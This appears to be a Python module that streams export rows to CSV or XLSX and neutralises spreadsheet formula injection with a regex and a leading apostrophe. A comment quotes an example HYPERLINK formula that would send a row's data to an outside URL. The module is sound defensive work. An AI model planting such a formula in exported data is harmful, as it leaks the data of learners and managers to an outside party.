"""Writing export rows (``queries.export_rows``) as CSV (UTF-8 with BOM, for Excel) or XLSX (openpyxl write-only).

Both writers consume the row iterator once and keep memory flat: CSV yields one encoded line at a time;
XLSX streams rows into a write-only workbook saved to a temporary file.
"""

from __future__ import annotations

import csv
import re
import tempfile
from collections.abc import Callable, Iterable, Iterator

from openpyxl import Workbook

from .queries import COLUMN_HEADERS

BOM = "\ufeff"
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


# A cell that a spreadsheet would read as a formula: "=…", "@…", a tab or carriage return first, or "+"/"-" followed
# by anything but a number ("+84912000123" stays a phone number). Course titles come from editors and emails from
# learners, and "=HYPERLINK(\"http://…?\"&C2)" in a manager's export would send the row's data away (audit
# 2026-12-04). Such a cell is written with a leading apostrophe, as OWASP advises for CSV injection.
_FORMULA = re.compile(r"^(?:[=@\t\r]|[+\-](?![\d .]*$))")


def _safe(row: list) -> list:
    return [f"'{cell}" if isinstance(cell, str) and _FORMULA.match(cell) else cell for cell in row]


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[list], *, on_row: Callable[[int], None] | None = None) -> Iterator[bytes]:
    """The BOM, the header and each row as UTF-8 bytes (CRLF line ends, as Excel writes them)."""
    writer = csv.writer(_Echo())
    yield (BOM + writer.writerow(COLUMN_HEADERS)).encode("utf-8")
    for count, row in enumerate(rows, start=1):
        yield writer.writerow(_safe(row)).encode("utf-8")
        if on_row is not None:
            on_row(count)


def write_xlsx(rows: Iterable[list], target, *, on_row: Callable[[int], None] | None = None) -> int:
    """Write a workbook with one sheet to ``target`` (a path or binary file); returns the number of rows."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Hoàn thành")
    sheet.append(COLUMN_HEADERS)
    count = 0
    for count, row in enumerate(rows, start=1):  # noqa: B007 - count is the result
        sheet.append(_safe(row))
        if on_row is not None:
            on_row(count)
    workbook.save(target)
    return count


def xlsx_tempfile(rows: Iterable[list]):
    """The workbook in a temporary file, rewound (spills to disk, so memory stays flat)."""
    handle = tempfile.TemporaryFile()
    write_xlsx(rows, handle)
    handle.seek(0)
    return handle
